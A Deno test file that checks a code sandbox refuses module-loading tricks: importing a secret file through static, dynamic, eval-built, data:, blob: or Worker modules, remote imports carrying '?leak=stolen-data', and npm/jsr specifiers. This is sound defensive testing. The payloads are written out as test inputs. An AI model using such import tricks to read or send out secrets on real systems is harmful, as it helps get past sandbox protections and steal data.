// Module-loading abuse: importing the secret file statically or dynamically,
// directly or from inside a data:, blob: or Worker module, and remote, npm or
// jsr imports that would phone home. The sandbox runs with --deny-read,
// --deny-import, --no-remote and --no-npm; none may load or reveal anything.
// Stopped by: the user's code is imported from a computed `data:` URL, never part of the static module graph, so every
// import is permission-checked: `--deny-read`, `--deny-import`, `--no-remote`, `--no-npm`.
import assert from "node:assert/strict";
import { assertFailed, assertHealthy, canaries, sandbox } from "./_canaries.ts";

const PERMISSION = /Requires (read|import|net) access|NotCapable/;

Deno.test("a static import of the secret JSON is refused by the validator by default", async () => {
  await using c = await canaries();
  await using cm = sandbox();
  const r = await cm.execute(c.fill(`import s from "file://{{JSON}}" with { type: "json" };\nreturn s;`));
  assert.equal(r.stopReason, "rejected");
  assert.equal(r.error?.name, "ValidationError");
  c.assertClean(r);
});

Deno.test("a static import of the secret JSON is refused by the sandbox when the validator allows it", async () => {
  await using c = await canaries();
  await using cm = sandbox({ deniedPatterns: [] });
  const r = await cm.execute(c.fill(`import s from "file://{{JSON}}" with { type: "json" };\nreturn s;`));
  assertFailed(r);
  assert.equal(r.stopReason, "error");
  c.assertClean(r);
});

Deno.test("a static import hidden from the validator's pattern still loads nothing", async () => {
  await using c = await canaries();
  await using cm = sandbox();
  const r = await cm.execute(c.fill(`/* hi */ import s from "file://{{JSON}}" with { type: "json" };\nreturn s;`));
  assertFailed(r);
  assert.equal(r.stopReason, "error");
  c.assertClean(r);
});

Deno.test("a dynamic import() of the secret JSON is denied", async () => {
  await using c = await canaries();
  await using cm = sandbox();
  const r = await cm.execute(c.fill(`return (await import("file://{{JSON}}", { with: { type: "json" } })).default`));
  assertFailed(r, PERMISSION);
  c.assertClean(r);
});

Deno.test("an import() built by eval or new Function is denied too", async () => {
  await using c = await canaries();
  await using cm = sandbox();
  for (
    const code of [
      `return (await (0, eval)('import("file://{{JSON}}", { with: { type: "json" } })')).default`,
      `return (await new Function('return import("file://{{JSON}}", { with: { type: "json" } })')()).default`,
      `return (await import("file://{{FILE}}")).default`,
    ]
  ) {
    const r = await cm.execute(c.fill(code));
    assertFailed(r, PERMISSION);
    c.assertClean(r);
  }
});

Deno.test("a data: URL module that statically imports the secret fails without leaking it", async () => {
  await using c = await canaries();
  await using cm = sandbox();
  const r = await cm.execute(c.fill(`
    const src = 'import s from "file://{{JSON}}" with { type: "json" }; export default s;';
    return (await import("data:application/javascript;base64," + btoa(src))).default;
  `));
  assertFailed(r, PERMISSION);
  c.assertClean(r);
});

Deno.test("a data: URL module importing the secret as a plain module fails without leaking it", async () => {
  await using c = await canaries();
  await using cm = sandbox();
  // A non-JS file imported as JS would surface its text in a SyntaxError if it were ever read.
  const r = await cm.execute(c.fill(`
    const src = 'import "file://{{FILE}}"; export default 1;';
    return (await import("data:text/javascript," + encodeURIComponent(src))).default;
  `));
  assertFailed(r, PERMISSION);
  c.assertClean(r);
});

Deno.test("a blob: URL module that statically imports the secret fails without leaking it", async () => {
  await using c = await canaries();
  await using cm = sandbox();
  const r = await cm.execute(c.fill(`
    const src = 'import s from "file://{{JSON}}" with { type: "json" }; export default s;';
    const url = URL.createObjectURL(new Blob([src], { type: "application/javascript" }));
    return (await import(url)).default;
  `));
  assertFailed(r, PERMISSION);
  c.assertClean(r);
});

Deno.test("a Worker whose data: URL module imports the secret gets nothing", async () => {
  await using c = await canaries();
  await using cm = sandbox();
  const r = await cm.execute(c.fill(`
    const src = 'import s from "file://{{JSON}}" with { type: "json" }; postMessage(s);';
    const w = new Worker("data:application/javascript;base64," + btoa(src), { type: "module" });
    try {
      return await new Promise((res, rej) => {
        w.onmessage = (e) => res(e.data);
        w.onerror = (e) => { e.preventDefault(); rej(new Error("worker failed: " + e.message)); };
      });
    } finally {
      w.terminate();
    }
  `));
  assertFailed(r, PERMISSION);
  c.assertClean(r);
});

Deno.test("a Worker loaded from the loopback listener never makes a request", async () => {
  await using c = await canaries();
  await using cm = sandbox();
  const r = await cm.execute(c.fill(`
    const w = new Worker("http://127.0.0.1:{{PORT}}/worker.js?leak=worker", { type: "module" });
    try {
      return await new Promise((res, rej) => {
        w.onmessage = (e) => res(e.data);
        w.onerror = (e) => { e.preventDefault(); rej(new Error("worker failed: " + e.message)); };
      });
    } finally {
      w.terminate();
    }
  `));
  assertFailed(r);
  c.assertClean(r);
});

Deno.test("a remote http(s) import carrying data never reaches the listener", async () => {
  await using c = await canaries();
  await using cm = sandbox();
  for (
    const url of [
      "http://127.0.0.1:{{PORT}}/mod.ts?leak=stolen-data",
      "https://127.0.0.1:{{PORT}}/mod.ts?leak=stolen-data",
      "http://localhost:{{PORT}}/mod.js",
    ]
  ) {
    const r = await cm.execute(c.fill(`return (await import("${url}")).default`));
    assertFailed(r);
    assert.equal(r.stopReason, "error");
    c.assertClean(r);
  }
});

Deno.test("npm: and jsr: imports are refused", async () => {
  await using c = await canaries();
  await using cm = sandbox();
  for (const spec of ["npm:left-pad", "npm:zod@4", "jsr:@std/path", "jsr:@std/assert@1"]) {
    const r = await cm.execute(`return Object.keys(await import("${spec}"))`);
    assertFailed(r);
    assert.equal(r.stopReason, "error", JSON.stringify(r));
    c.assertClean(r);
  }
  await assertHealthy(cm);
});

Deno.test("import.meta and stack traces of reported errors do not name host paths", async () => {
  await using cm = sandbox();
  const r = await cm.execute(`throw new Error("where am I")`);
  assert.equal(r.stopReason, "error");
  assert.equal(r.error?.name, "Error");
  assert.ok(!JSON.stringify(r.error).includes("prelude.js"), JSON.stringify(r.error));
  assert.ok(!JSON.stringify(r.error).includes("/work/"), JSON.stringify(r.error));
  const meta = await cm.execute(
    `return [import.meta.url.slice(0, 5), import.meta.filename ?? null, import.meta.dirname ?? null]`,
  );
  assert.equal(meta.stopReason, "completed");
  assert.deepEqual(meta.result, ["data:", null, null]);
});
